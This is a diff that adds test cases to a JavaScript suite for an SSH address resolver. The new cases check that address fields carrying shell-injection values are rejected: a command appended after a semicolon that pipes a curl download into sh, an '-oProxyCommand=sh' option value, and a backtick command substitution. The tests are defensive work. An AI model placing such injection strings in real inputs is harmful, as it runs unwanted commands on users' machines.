@@ -27,9 +27,17 @@ describe("ssh_direct falls back to the proxy", () => {
     ["a mapping of null", { ports: { "22/tcp": null } }],
     ["a port that is none", { ports: { "22/tcp": [{ HostPort: "none" }] } }],
     ["no address", { public_ipaddr: " " }],
+    ["an address with a command in it", { public_ipaddr: "203.0.113.9; curl example.com | sh" }],
+    ["an address that is an option", { public_ipaddr: "-oProxyCommand=sh" }],
   ])("%s", (_what, fields) => {
     expect(address({ ...DIRECT, ...fields }, "ssh_direct")).toEqual({ host: "ssh4.example.com", port: "11042" });
   });
+});
+
+test("takes nothing for an address that a shell would take for more: people copy it into one", () => {
+  const bad = { ...PROXY, ssh_host: "ssh4.example.com`id`" };
+  expect(address(bad, "ssh_proxy")).toEqual({ host: "", port: "11042" });
+  expect(address({ ...DIRECT, public_ipaddr: "2001:db8::7" }, "ssh_direct").host).toBe("2001:db8::7");
 });
 
 test("what is not told is empty", () => {
